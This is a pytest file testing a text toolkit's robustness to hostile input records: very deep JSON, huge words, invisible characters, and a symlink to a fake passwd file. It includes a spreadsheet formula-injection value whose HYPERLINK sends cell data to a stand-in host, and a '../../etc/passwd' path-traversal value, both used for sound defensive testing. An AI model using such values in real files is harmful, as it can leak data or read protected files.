"""One hostile record never takes a run down: it is checked in bounded time and memory, or
rejected with its reason, and every other record comes out as usual."""

from __future__ import annotations

import json
import time
import tracemalloc
from pathlib import Path

import pytest
from conftest import run_cli, run_measured

from toolkit.io.jsonl import too_deep
from toolkit.io.readers import ReaderOptions, read_jsonl
from toolkit.scorers.run import score_text

# end to end through the command, a browser, Redis or Dask: the slow tier (make test-fast skips it)
pytestmark = pytest.mark.slow

GOOD = [
    {"id": "a", "text": "Turkey threatened on Thursday to strike jihadists in Idlib."},
    {"id": "b", "text": "Ankara hosts 3.7 million Syrians, the largest refugee population in the world."},
]


def nested(depth: int, rid: str) -> bytes:
    """A record whose ``meta`` is ``depth`` arrays deep (by hand: json.dumps would recurse)."""
    return b'{"id": "%s", "text": "deep", "meta": ' % rid.encode() + b"[" * depth + b'"x"' + b"]" * depth + b"}"


@pytest.mark.parametrize("length", [3_000, 20_000])
def test_a_long_word_is_scored_in_bounded_memory(length: int) -> None:
    # before the cap on edit-distance work, 3,000 letters took 1.6 GB and 20,000 were killed
    score_text("warm up", "en")
    tracemalloc.start()
    try:
        score_text("a" * length, "en")
        score_text("Ab" * (length // 2) + " said Erdogan.", "en")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 2**20, peak


def test_a_one_megabyte_word_goes_through_run_and_ingest(tmp_path: Path) -> None:
    inp = tmp_path / "in.jsonl"
    lines = [json.dumps(GOOD[0]), json.dumps({"id": "w", "text": "a" * 1_000_000}), json.dumps(GOOD[1])]
    inp.write_text("\n".join(lines) + "\n")
    for args in (["run"], ["ingest", "--index", str(tmp_path / "idx.db"), "--workers", "2"]):
        t0 = time.perf_counter()
        code, peak_kb = run_measured(
            [*args, str(inp), "--format", "jsonl", "-o", str(tmp_path / "out.jsonl"), "-q"], tmp_path
        )
        took = time.perf_counter() - t0
        assert code == 0
        out = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text().splitlines()]
        assert [o["id"] for o in out] == ["a", "w", "b"]
        assert took < 60, took
        assert peak_kb < 1_500_000, peak_kb  # KB, the command's own process or its largest worker


def test_too_deep_counts_nesting_outside_strings() -> None:
    assert not too_deep(b'{"a": [1, {"b": [2]}]}', 4)
    assert too_deep(b'{"a": [1, {"b": [2]}]}', 3)
    assert not too_deep(b'{"a": [], "b": [], "c": {}, "d": [[]]}', 3)  # many brackets, shallow
    assert not too_deep(b'{"t": "[[[[[[[[", "u": "\\"[[[["}', 1)  # brackets in strings do not count
    assert too_deep(nested(64, "x"), 64) and not too_deep(nested(63, "x"), 64)  # the object is one level


def test_deep_json_is_rejected_as_too_deep_with_the_line_kept() -> None:
    import io

    deep = nested(1000, "d")
    data = json.dumps(GOOD[0]).encode() + b"\n" + deep + b"\n" + nested(63, "ok") + b"\n"
    docs = list(read_jsonl(io.BytesIO(data), "feed", ReaderOptions()))
    assert [d.ok for d in docs] == [True, False, True]
    rej = docs[1].rejected
    assert rej is not None and rej.reason == "too_deep" and rej.line == 2
    assert docs[1].to_record()["_raw"] == deep.decode()


@pytest.mark.parametrize("command", ["run", "ingest"])
def test_deep_json_never_takes_a_run_down(tmp_path: Path, command: str) -> None:
    # 500 levels broke pickling for workers, 1,000 the writer and the reject path; orjson takes 1,024
    lines = [json.dumps(GOOD[0]).encode(), nested(500, "d500"), nested(1000, "d1000"), nested(1024, "d1024")]
    lines += [nested(5000, "d5000"), json.dumps(GOOD[1]).encode()]
    inp = tmp_path / "in.jsonl"
    inp.write_bytes(b"\n".join(lines) + b"\n")
    args = [command, str(inp), "--format", "jsonl", "-q", "--workers", "2"]
    if command == "ingest":
        args += ["--index", str(tmp_path / "idx.db")]
    for attempt in range(2):  # a retry over an index that already holds the batch works as well
        out = tmp_path / f"out{attempt}.jsonl"
        r = run_cli(*args, "-o", str(out))
        assert r.returncode == 2, r.stderr.decode()  # records were rejected: an input error
        assert b"Traceback" not in r.stderr
        recs = [json.loads(x) for x in out.read_text().splitlines()]
        assert len(recs) == len(lines)
        assert [x["wirecheck"]["rejected"] and x["wirecheck"]["rejected"]["reason"] for x in recs] == [
            None, "too_deep", "too_deep", "too_deep", "too_deep", None,
        ]  # fmt: skip
        assert [x["_raw"] for x in recs[1:5]] == [x.decode() for x in lines[1:5]]


def test_a_link_in_an_input_folder_to_a_file_outside_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "story.txt").write_text("Turkey threatened on Thursday to strike jihadists in Idlib.\n", encoding="utf-8")
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (folder / "passwd.txt").symlink_to(secret)
    r = run_cli("run", str(folder), "--out", str(tmp_path / "out"), "-q")
    assert r.returncode == 2, r.stderr.decode()  # a rejected record
    out = (tmp_path / "out" / "documents.jsonl").read_text(encoding="utf-8")
    assert "root:x:0:0" not in out
    recs = [json.loads(line) for line in out.splitlines()]
    assert {r["id"]: (r["wirecheck"]["rejected"] or {}).get("reason") for r in recs} == {
        "passwd.txt": "outside_input",
        "story.txt": None,
    }
    r = run_cli("run", str(folder), "--out", str(tmp_path / "out2"), "-q", "--follow-symlinks")
    assert r.returncode == 0 and "root:x:0:0" in (tmp_path / "out2" / "documents.jsonl").read_text(encoding="utf-8")


def test_every_csv_cell_a_spreadsheet_would_run_is_neutralised(tmp_path: Path) -> None:
    import csv

    feed = tmp_path / "in.jsonl"
    rec = {"id": '=HYPERLINK("http://x.example/?"&A1,"click")', "title": "+cmd", "source": "@SUM(1)",
           "text": "Turkish President Recep Tayyip Ergodan said on Wednesday , that the regime will pay ."}  # fmt: skip
    feed.write_text(json.dumps(rec) + "\n", encoding="utf-8")
    r = run_cli("score", str(feed), "--format", "csv", "-o", str(tmp_path / "f.csv"), "-q")
    assert r.returncode == 0, r.stderr.decode()
    rows = list(csv.reader((tmp_path / "f.csv").open(encoding="utf-8")))
    assert len(rows) > 1
    for row in rows[1:]:
        assert all(not cell or cell[0] not in "=+-@\t\r\n" for cell in row), row
        assert row[0].startswith("'=HYPERLINK")


def test_two_outputs_to_one_file_are_refused(tmp_path: Path) -> None:
    feed = tmp_path / "in.jsonl"
    feed.write_text("\n".join(json.dumps(g) for g in GOOD) + "\n", encoding="utf-8")
    same = tmp_path / "same.jsonl"
    r = run_cli("dedup", str(feed), "--format", "jsonl", "-o", str(same), "--rejects", str(same), "-q")
    assert r.returncode == 2 and b"same file" in r.stderr and not same.exists()


def test_text_of_only_invisible_characters_is_rejected_as_empty(tmp_path: Path) -> None:
    feed = tmp_path / "in.jsonl"
    lines = [json.dumps({"id": "zw", "text": "\u200b\u200c\u200d\u2060\ufeff \u200b"}), *(json.dumps(g) for g in GOOD)]
    feed.write_text("\n".join(lines) + "\n", encoding="utf-8")
    r = run_cli("dedup", str(feed), "--format", "jsonl", "-o", str(tmp_path / "o.jsonl"), "-q")
    assert r.returncode == 2
    recs = {json.loads(x)["id"]: json.loads(x)["wirecheck"] for x in (tmp_path / "o.jsonl").read_text().splitlines()}
    assert recs["zw"]["rejected"]["reason"] == "empty_text" and recs["a"]["rejected"] is None


def test_patch_headers_never_leave_the_folder() -> None:
    from toolkit.report.fixes import patch

    diff = patch("../../etc/passwd", "a b\n", "a c\n")
    header = [line for line in diff.splitlines() if line.startswith(("---", "+++"))]
    assert header == ["--- a/etc/passwd", "+++ b/etc/passwd"]
    assert "\n--- a/x_y\n" in "\n" + patch("x\ny", "1\n", "2\n")


@pytest.mark.parametrize(
    "text",
    ["a" * 1_000_000, "« » " * 250_000, "3,5 " * 250_000, "Ergodan " * 125_000],
    ids=["no-spaces", "guillemets", "numbers", "one-name"],
)
def test_a_megabyte_of_hostile_text_runs_in_bounded_time_memory_and_output(tmp_path: Path, text: str) -> None:
    from toolkit.scorers.run import MAX_PER_CODE

    feed = tmp_path / "in.jsonl"
    feed.write_text(json.dumps({"id": "x", "text": text}) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    t0 = time.perf_counter()
    code, peak_kb = run_measured(["run", str(feed), "--format", "jsonl", "-o", str(out), "-q"], tmp_path)
    elapsed = time.perf_counter() - t0
    assert code == 0
    assert elapsed <= 20, elapsed
    assert peak_kb <= 1024 * 1024, peak_kb  # KB: at most 1 GB
    findings = json.loads(out.read_text(encoding="utf-8"))["wirecheck"]["findings"]
    per_code: dict[str, int] = {}
    for f in findings:
        per_code[f["code"]] = per_code.get(f["code"], 0) + 1
    assert all(n <= MAX_PER_CODE for code, n in per_code.items() if code != "summary.capped"), per_code
    assert out.stat().st_size < 10 * 1024 * 1024  # one record, not a hundred megabytes of findings


def test_findings_beyond_the_cap_are_summarised() -> None:
    from toolkit.scorers.run import MAX_PER_CODE, score_text

    findings = score_text("Il a dit « oui » . " * (MAX_PER_CODE + 50), "en")
    capped = [f for f in findings if f.code == "summary.capped"]
    assert capped and all(f.evidence["unlisted"] > 0 for f in capped)
    counts: dict[str, int] = {}
    for f in findings:
        counts[f.code] = counts.get(f.code, 0) + 1
    assert max(n for c, n in counts.items() if c != "summary.capped") == MAX_PER_CODE


@pytest.mark.parametrize("command", ["run", "ingest"])
def test_a_feed_with_forty_hostile_lines_comes_out_line_for_line(tmp_path: Path, command: str) -> None:
    import adversarial

    feed = tmp_path / "feed.jsonl"
    feed.write_bytes(adversarial.feed())
    n_lines = feed.read_bytes().count(b"\n") + 1  # no final newline
    out = tmp_path / "out.jsonl"
    args = ["--format", "jsonl"] if command == "run" else ["--index", str(tmp_path / "i.db"), "--workers", "2"]
    r = run_cli(command, str(feed), *args, "-o", str(out), "-q")
    assert r.returncode == 2, r.stderr.decode()[-2000:]  # rejected records, nothing else wrong
    assert b"Traceback" not in r.stderr
    recs = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(recs) == n_lines == 3000
    rejected = [r["wirecheck"]["rejected"] for r in recs if r["wirecheck"]["rejected"]]
    lines = [x["line"] for x in rejected]
    assert len(set(lines)) == len(lines) and all(x["reason"] for x in rejected)
    ids = [r["id"] for r in recs if str(r.get("id", "")).startswith("item-")]
    assert sorted(ids) == [f"item-{k:05d}" for k in range(2960)]  # every ordinary item, once
    reasons = {x["reason"] for x in rejected}
    assert {"malformed_json", "not_an_object", "invalid_utf8", "too_deep", "too_large", "empty_text"} <= reasons
